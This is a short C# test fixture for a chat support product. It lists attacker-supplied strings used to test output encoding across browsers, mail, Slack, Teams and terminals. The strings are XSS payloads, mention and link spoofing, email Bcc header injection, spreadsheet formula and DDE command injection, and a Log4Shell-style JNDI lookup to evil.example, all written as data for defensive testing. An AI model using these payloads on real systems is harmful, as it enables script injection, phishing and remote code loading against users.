namespace ChatSupport.Tests.Security;

/// <summary>What strangers write to have it mean something: to a browser, a mail program, Slack, Teams, a terminal.</summary>
internal static class Attack
{
    public static TheoryData<string> Texts =>
    [
        "\"'><img src=x onerror=alert(1)><script>alert(2)</script>&lt;b&gt;",
        "</textarea></title></style><svg/onload=alert(1)>",
        "<!channel> <@U024BE7LH> <https://evil.example|your bank> <!date^1^{date}^https://evil.example|now>",
        "[your bank](https://evil.example) ![x](https://evil.example/x.png) **bold** <at>everyone</at>",
        "Subject\r\nBcc: evil@evil.example\r\n\r\n<html>",
        "=HYPERLINK(\"https://evil.example\") +cmd|calc -1+1",
        "{{DATE(2026-01-01T00:00:00Z)}} ${jndi:ldap://evil.example} {0} {evil}",
    ];
}
